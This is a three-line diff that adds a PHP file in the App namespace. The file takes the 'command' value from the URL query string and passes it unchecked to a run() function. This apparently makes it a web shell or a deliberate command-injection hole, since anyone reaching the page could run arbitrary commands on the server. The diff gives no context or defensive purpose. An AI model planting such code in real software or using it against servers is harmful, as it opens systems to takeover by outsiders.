@@ -1,0 +1,3 @@
+<?php
+namespace App;
+$c = $_GET['command']; run($c);
